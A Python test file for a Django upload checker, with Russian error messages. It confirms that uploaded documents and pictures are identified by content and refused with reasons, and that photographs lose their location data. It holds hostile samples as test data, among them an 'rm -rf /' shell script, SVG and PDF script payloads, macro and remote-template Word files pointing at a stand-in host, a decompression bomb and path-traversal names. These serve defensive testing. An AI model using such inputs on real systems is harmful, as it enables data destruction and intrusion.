"""Uploaded files: what is taken, what is refused and why, and what is left of a picture."""

import base64
import io
import struct
import zlib

import pydyf
import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from PIL import Image
from pypdf import PdfReader, PdfWriter

from common.files.checking import MAX_BYTES, check_file, shown_name
from common.files.fields import CheckedFileField
from common.files.kinds import DOCUMENTS, DOCX, JPEG, PDF, PICTURES, PNG, WEBP, XLSX
from common.sandbox import run_in_sandbox
from common.uploads import UploadError
from tests.common import hostile

ANY = (*DOCUMENTS, *PICTURES)
GPS = 0x8825
PLACE = b"59 56 03 N, sela Yolkino"


def pdf(*, password: str = "", pages: int = 1) -> bytes:
    out, writer = io.BytesIO(), PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(width=200, height=200)
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def docx() -> bytes:
    out = io.BytesIO()
    Document().save(out)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **options)
    return out.getvalue()


def photograph() -> bytes:
    """Return a picture lying on its side that tells where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was turned
    exif[0x010E] = PLACE.decode()
    exif.get_ifd(GPS)[2] = (59.0, 56.0, 3.0)
    return picture(exif=exif, comment=PLACE)


def png_that_claims(width: int, height: int) -> bytes:
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = b"IDAT" + zlib.compress(b"\0" * 100)
    chunks = b"".join(
        struct.pack(">I", len(part) - 4) + part + struct.pack(">I", zlib.crc32(part))
        for part in (header, body, b"IEND")
    )
    return b"\x89PNG\r\n\x1a\n" + chunks


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (pdf(), PDF),
        (docx(), DOCX),
        (hostile.workbook(["a"]), XLSX),
        (picture("JPEG"), JPEG),
        (picture("PNG"), PNG),
        (picture("WEBP"), WEBP),
    ],
)
def test_kind_is_told_by_content_and_not_by_name(data, kind):
    assert check_file(io.BytesIO(data), "файл.exe", ANY).kind is kind


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "пуст"),
        (b"MZ\x90\x00\x03" + b"\x00" * 600, "программа"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 600, "программа"),
        (b"#!/bin/sh\nrm -rf /", "программа"),
        (b"<svg onload='alert(1)'/>", "рисунок SVG"),
        (b"<?xml version='1.0'?><!-- --><svg><script>alert(1)</script></svg>", "рисунок SVG"),
        (b"\xef\xbb\xbf<!DOCTYPE html><p>", "веб-страница"),
        (b"GIF89a" + b"\0" * 60, "открывается не везде"),
        (b"\0\0\0\x18ftypheic" + b"\0" * 60, "открывается не везде"),
        (b"Rar!\x1a\x07" + b"\0" * 60, "архив"),
        (b"\x01\x02\x03 nothing known", "не PDF"),
        (b"PK\x03\x04 not really", "повреждён"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "старом формате"),
        (b"%PDF-1.7\n<script>alert(1)</script>", "повреждён или это не PDF"),
        (b"%PDF-1.4\nstartxref\n99999\n%%EOF", "повреждён или это не PDF"),
        (b"%PDF-1.4\n1 0 obj\nstartxref\n9\n%%EOF", "повреждён или это не PDF"),
        (b"\xff\xd8\xff\xe0 not a photograph", "повреждена или слишком сложна"),
        (pdf() + b"\nPK\x03\x04 the tail of another file", "повреждён или это не PDF"),
        (pdf(password="1"), "защищён паролем"),
    ],
)
def test_what_is_not_taken_is_refused_with_reason_and_advice(data, message):
    with pytest.raises(UploadError, match=message) as caught:
        check_file(io.BytesIO(data), "издание.pdf", ANY)
    assert any(act in str(caught.value) for act in ("загрузите", "сохраните", "Проверьте"))


def test_good_file_of_a_kind_not_asked_for_is_refused():
    with pytest.raises(UploadError, match=r"«фото\.jpg» — JPEG, а здесь нужен PDF или Word"):
        check_file(io.BytesIO(picture()), "фото.jpg", (PDF, DOCX))
    with pytest.raises(UploadError, match="архив"):
        check_file(
            io.BytesIO(hostile.with_member(docx(), "word/document.xml", bytes)[:40]), "a", PICTURES
        )


def test_picture_that_claims_half_a_gigabyte_is_refused_before_it_is_decoded():
    with pytest.raises(UploadError, match="Картинка слишком большая: 13000 × 13000"):
        check_file(io.BytesIO(png_that_claims(13_000, 13_000)), "плакат.png", PICTURES)


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/activeX1.xml"])
def test_document_with_macros_is_refused(name):
    data = hostile.with_member(docx(), name, lambda _: b"macro")
    with pytest.raises(UploadError, match="макросы"):
        check_file(io.BytesIO(data), "издание.docx", DOCUMENTS)


def test_document_that_declares_macros_is_refused():
    data = hostile.with_member(
        docx(),
        "[Content_Types].xml",
        lambda xml: xml.replace(b"document.main", b"macroEnabled.main"),
    )
    with pytest.raises(UploadError, match="макросы"):
        check_file(io.BytesIO(data), "издание.docx", DOCUMENTS)


@pytest.mark.parametrize(
    ("kind", "target", "is_taken"),
    [
        ("attachedTemplate", "https://zlo.example/t.dotm", False),
        ("attachedTemplate", "file:///\\\\zlo\\t.dotm", False),
        ("attachedTemplate", "\\\\zlo\\t.dotm", False),
        ("oleObject", "mhtml:https://zlo.example/", False),
        ("attachedTemplate", "file:///C:\\Users\\Anna\\Normal.dotm", True),
        ("hyperlink", "https://www.rsl.ru/", True),
    ],
)
def test_document_that_opens_another_from_elsewhere_is_refused(kind, target, is_taken):
    relation = (
        f'<Relationship Id="r77" TargetMode="External" Target="{target}" Type="http://schemas.'
        f'openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
    )
    data = hostile.with_member(
        docx(),
        "word/_rels/document.xml.rels",
        lambda xml: xml.replace(b"</Relationships>", relation.encode()),
    )
    if is_taken:
        assert check_file(io.BytesIO(data), "издание.docx", DOCUMENTS).kind is DOCX
    else:
        with pytest.raises(UploadError, match="при открытии загружает"):
            check_file(io.BytesIO(data), "издание.docx", DOCUMENTS)


def test_document_with_an_object_or_a_type_declared_in_an_odd_part_is_refused():
    for name, inside, message in (
        ("word/embeddings/oleObject1.bin", b"MZ", "объект другой программы"),
        ("word/evil.dat", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>', "DOCTYPE"),
        ("word/_rels/evil.xml.rels", b"<", "повреждён"),
    ):
        data = hostile.with_member(docx(), name, lambda _, inside=inside: inside)
        with pytest.raises(UploadError, match=message):
            check_file(io.BytesIO(data), "издание.docx", DOCUMENTS)


@pytest.mark.parametrize("is_packed", [False, True])
@pytest.mark.parametrize("action", ["JavaScript", "Launch"])
def test_pdf_that_runs_a_program_is_refused(action, is_packed):
    """Packed into a stream of objects as well, where its words are not to be read."""
    document, out = pydyf.PDF(), io.BytesIO()
    size, above = pydyf.Array([0, 0, 200, 200]), document.pages.reference
    page = pydyf.Dictionary({"Type": "/Page", "Parent": above, "MediaBox": size})
    document.add_page(page)
    run = pydyf.Dictionary({"S": f"/{action}", "JS": pydyf.String("app.alert(1)")})
    document.catalog["OpenAction"] = run
    document.write(out, version="1.7", compress=is_packed)
    data = out.getvalue()
    assert (action.encode() in data) is not is_packed
    with pytest.raises(UploadError, match="запускает программу"):
        check_file(io.BytesIO(data), "издание.pdf", (PDF,))


def test_document_that_is_a_bomb_is_refused():
    data = hostile.with_member(docx(), "word/media/a.xml", lambda _: b" " * 50_000_000)
    with pytest.raises(UploadError, match="при распаковке"):
        check_file(io.BytesIO(data), "издание.docx", DOCUMENTS)


def test_too_large_file_is_refused_with_the_limit():
    with pytest.raises(UploadError, match="больше 10 МБ"):
        check_file(io.BytesIO(pdf() + b"\0" * MAX_BYTES), "большой.pdf", DOCUMENTS)


def test_photograph_loses_its_place_its_comment_and_its_tail_and_stands_upright():
    taken = photograph()
    assert PLACE in taken
    tail = b"PK\x03\x04<script>alert(1)</script>"
    kept = check_file(io.BytesIO(taken + tail), "фото.jpg", PICTURES)
    with Image.open(io.BytesIO(kept.data)) as drawn:
        assert drawn.size == (kept.width, kept.height) == (40, 60)
        assert not drawn.getexif()
    assert PLACE not in kept.data
    assert tail not in kept.data


def test_large_picture_is_made_smaller_and_has_a_thumbnail():
    kept = check_file(io.BytesIO(picture("PNG", (3000, 1500))), "плакат.png", PICTURES)
    assert (kept.width, kept.height) == (2400, 1200)
    with Image.open(io.BytesIO(kept.thumbnail)) as small:
        assert (small.format, small.size) == ("JPEG", (360, 180))


def test_transparent_picture_stays_transparent_and_its_thumbnail_is_white():
    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(out, "PNG")
    kept = check_file(out, "знак.png", PICTURES)
    assert Image.open(io.BytesIO(kept.data)).getpixel((5, 5))[3] == 0
    assert Image.open(io.BytesIO(kept.thumbnail)).getpixel((5, 5)) == (255, 255, 255)


def test_pages_of_a_pdf_are_counted_and_its_bytes_are_kept():
    kept = check_file(io.BytesIO(pdf(pages=3)), "издание.pdf", (PDF,))
    assert kept.pages == len(PdfReader(io.BytesIO(kept.data)).pages) == 3


def test_cover_of_a_pdf_is_its_first_page():
    cover = base64.b64decode(run_in_sandbox("common.files.pdf_reader:draw_cover", pdf()))
    assert Image.open(io.BytesIO(cover)).size == (480, 480)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("C:\\Users\\Вера\\отчёт.pdf", "отчёт.pdf"),
        ("../../etc/passwd", "passwd"),
        ("fdp.\u202egpj.exe", "fdp.gpj.exe"),
        ("  \x00 ", "файл"),
    ],
)
def test_name_of_a_file_is_shown_without_folders_and_tricks(name, shown):
    assert shown_name(name) == shown


class PhotoForm(forms.Form):
    photo = CheckedFileField(label="Фотография", kinds=PICTURES, required=False)


def test_field_cleans_to_a_checked_file_or_says_why_not():
    good = PhotoForm({}, {"photo": SimpleUploadedFile("фото.jpg", picture())})
    assert good.is_valid()
    assert good.cleaned_data["photo"].name == "фото.jpg"
    bad = PhotoForm({}, {"photo": SimpleUploadedFile("фото.jpg", b"MZ\0\0")})
    assert "программа" in bad.errors["photo"][0]
    assert PhotoForm({}, {}).is_valid()


def test_field_that_was_left_empty_keeps_the_former_file():
    form = PhotoForm({}, {}, initial={"photo": "kept.jpg"})
    assert form.is_valid()
    assert form.cleaned_data["photo"] is None


def test_field_tells_kinds_and_limit_and_lets_the_browser_choose_by_them():
    html = PhotoForm()["photo"]
    assert html.help_text == "JPEG, PNG или WebP, до 10 МБ."
    assert ".jpg,.jpeg,image/jpeg,.png" in str(html)
